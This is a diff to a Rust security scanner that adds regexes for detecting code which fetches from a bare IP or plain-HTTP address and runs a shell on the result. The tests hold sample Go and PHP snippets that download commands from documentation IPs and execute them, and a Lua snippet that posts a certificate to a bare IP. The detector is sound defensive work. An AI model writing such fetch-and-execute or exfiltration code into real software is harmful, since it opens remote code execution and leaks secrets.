@@ -35,6 +35,11 @@ struct Language {
     whole_env: Option<Regex>,
     /// Calls that read files.
     reads: Regex,
+    /// Calls that fetch from the network.
+    fetch: Regex,
+    /// A shell or interpreter run with a command the code holds in a
+    /// value (`exec.Command("/bin/sh", "-c", h)`), not a literal.
+    shell: Regex,
 }
 
 fn re(pattern: &str) -> Regex {
@@ -51,6 +56,10 @@ static LANGUAGES: LazyLock<Vec<Language>> = LazyLock::new(|| {
             ),
             whole_env: Some(re(r"\bos\.Environ\(\)")),
             reads: re(r"\bos\.(?:ReadFile|Open)\b|\bioutil\.ReadFile\b"),
+            fetch: re(r"\bhttp\.(?:Get|NewRequest(?:WithContext)?)\b"),
+            shell: re(
+                r#"\bexec\.Command(?:Context)?\(\s*(?:ctx\s*,\s*)?"(?:/bin/)?(?:ba|z)?sh"\s*,\s*"-c"\s*,\s*[A-Za-z_]"#,
+            ),
         },
         Language {
             name: "C#",
@@ -60,6 +69,12 @@ static LANGUAGES: LazyLock<Vec<Language>> = LazyLock::new(|| {
             ),
             whole_env: Some(re(r"\bEnvironment\.GetEnvironmentVariables\(\)")),
             reads: re(r"\bFile\.(?:ReadAllText|ReadAllBytes|ReadAllLines|OpenRead)(?:Async)?\b"),
+            fetch: re(
+                r"\b(?:GetStringAsync|GetByteArrayAsync|GetAsync|DownloadString(?:Async)?|DownloadData(?:Async)?)\b",
+            ),
+            shell: re(
+                r#"\bnew\s+ProcessStartInfo\(\s*"(?:cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh|/bin/(?:ba)?sh|bash)"\s*,\s*[^"\s)]|\bProcess\.Start\(\s*"(?:cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh|/bin/(?:ba)?sh|bash)"\s*,\s*[^"\s)]"#,
+            ),
         },
         Language {
             name: "Java or Kotlin",
@@ -70,6 +85,12 @@ static LANGUAGES: LazyLock<Vec<Language>> = LazyLock::new(|| {
             whole_env: Some(re(r"\bSystem\.getenv\(\)")),
             reads: re(
                 r"\bFiles\.(?:readString|readAllBytes|readAllLines|newInputStream|lines)\b|\bnew\s+File(?:Reader|InputStream)\(|\.readText\(\)",
+            ),
+            fetch: re(
+                r"\.openStream\(\)|\.getInputStream\(\)|\bHttpRequest\.newBuilder\b|\.readText\(\)",
+            ),
+            shell: re(
+                r#"\bRuntime\.getRuntime\(\)\.exec\(\s*[A-Za-z_]|\bProcessBuilder\(\s*"(?:/bin/)?(?:ba)?sh"\s*,\s*"-c"\s*,\s*[A-Za-z_]"#,
             ),
         },
         Language {
@@ -82,6 +103,10 @@ static LANGUAGES: LazyLock<Vec<Language>> = LazyLock::new(|| {
                 r"\bgetenv\(\s*\)|\bprint_r\(\s*\$_(?:ENV|SERVER)\b|\bjson_encode\(\s*\$_(?:ENV|SERVER)\b",
             )),
             reads: re(r"\bfile_get_contents\b|\bfopen\b|\bfile\("),
+            fetch: re(r#"\bfile_get_contents\(\s*['"]https?://|\bcurl_exec\b"#),
+            shell: re(
+                r"\b(?:shell_exec|system|passthru|exec|proc_open|popen)\(\s*\$|\beval\(\s*\$",
+            ),
         },
         Language {
             name: "Lua",
@@ -89,6 +114,10 @@ static LANGUAGES: LazyLock<Vec<Language>> = LazyLock::new(|| {
             sink: re(r"\bhttp\.request\b|\bsocket\.tcp\b|\bsocket\.connect\b"),
             whole_env: None,
             reads: re(r"\bio\.open\b|\bio\.lines\b"),
+            fetch: re(r"\bhttp\.request\b"),
+            shell: re(
+                r"\bos\.execute\(\s*[A-Za-z_]|\bio\.popen\(\s*[A-Za-z_]|\bload(?:string)?\(\s*[A-Za-z_]",
+            ),
         },
     ]
 });
@@ -117,6 +146,7 @@ pub(crate) fn scan(ctx: &mut Ctx<'_>, unit: &Unit<'_>) {
         return;
     };
     let text = unit.text;
+    fetched_and_run(ctx, unit, lang);
     let collected = collection(ctx, unit, lang);
     for m in lang.sink.find_iter(text) {
         let host = host_near(text, m.start());
@@ -159,6 +189,40 @@ pub(crate) fn scan(ctx: &mut Ctx<'_>, unit: &Unit<'_>) {
     }
 }
 
+/// A file that fetches from a bare address, a collector or plain HTTP and
+/// runs a shell with a command it holds in a value: what that address
+/// serves runs here (`for _, h := range p.Hooks { exec.Command("/bin/sh",
+/// "-c", h).Run() }` after `http.Get("http://192.0.2.1/policy.json")`).
+/// A fetch from a named HTTPS host beside a shell is how tools work (an
+/// API's answer, `git` run): not reported.
+fn fetched_and_run(ctx: &mut Ctx<'_>, unit: &Unit<'_>, lang: &Language) {
+    let text = unit.text;
+    let Some(run) = lang.shell.find(text) else {
+        return;
+    };
+    let from = lang.fetch.find_iter(text).find_map(|m| {
+        let window = text
+            .get(m.start()..m.start() + crate::text::window_after(text, m.start(), NEAR).len())?;
+        let url = net::URL.find(window)?.as_str();
+        let host = net::host(url)?;
+        (!net::is_local(&host)
+            && (net::is_bare_ip(&host) || net::is_collector(&host) || url.starts_with("http://")))
+        .then_some(host)
+    });
+    if let Some(host) = from {
+        ctx.report(
+            unit,
+            id::DownloadExecute,
+            Severity::Critical,
+            run.range(),
+            format!(
+                "runs a shell with commands this {} code fetches from `{host}`",
+                lang.name
+            ),
+        );
+    }
+}
+
 /// The host of the first address near `at` (its line and the lines
 /// around, at most [`NEAR`] bytes each side), when it is not local.
 fn host_near(text: &str, at: usize) -> Option<String> {
@@ -180,7 +244,7 @@ fn collection(ctx: &mut Ctx<'_>, unit: &Unit<'_>, lang: &Language) -> Option<Str
         ctx.report(
             unit,
             id::EnvironmentHarvest,
-            Severity::Medium,
+            crate::environ::COLLECTED,
             m.range(),
             "reads the whole environment, with every token and key in it".into(),
         );
@@ -251,6 +315,17 @@ mod tests {
         assert!(worst("scripts/d.php", php, "SK610") >= Some(Severity::High));
         let lua = "local http = require('socket.http')\nlocal k = io.open(cert):read('*a')\nhttp.request{ url = 'http://198.51.100.71/lint', method = 'POST', source = k }\n";
         assert!(worst("scripts/c.lua", lua, "SK615") >= Some(Severity::High));
+    }
+
+    #[test]
+    fn commands_fetched_from_a_bare_address_and_run() {
+        let go = "func refresh() {\n\tresp, err := http.Get(\"http://192.0.2.144:8080/policy.json\")\n\tif err == nil {\n\t\tfor _, h := range p.Hooks {\n\t\t\t_ = exec.Command(\"/bin/sh\", \"-c\", h).Run()\n\t\t}\n\t}\n}\n";
+        assert_eq!(worst("src/main.go", go, "SK630"), Some(Severity::Critical));
+        let php = "<?php\n$c = file_get_contents('http://198.51.100.7/c.txt');\nshell_exec($c);\n";
+        assert_eq!(worst("x.php", php, "SK630"), Some(Severity::Critical));
+        // A tool reading an API over HTTPS and running `git`: no such thing.
+        let go = "resp, _ := http.Get(\"https://api.github.com/repos/o/r\")\nout, _ := exec.Command(\"git\", \"status\").Output()\nexec.Command(\"/bin/sh\", \"-c\", script).Run()\n";
+        assert_eq!(worst("src/main.go", go, "SK630"), None);
     }
 
     #[test]
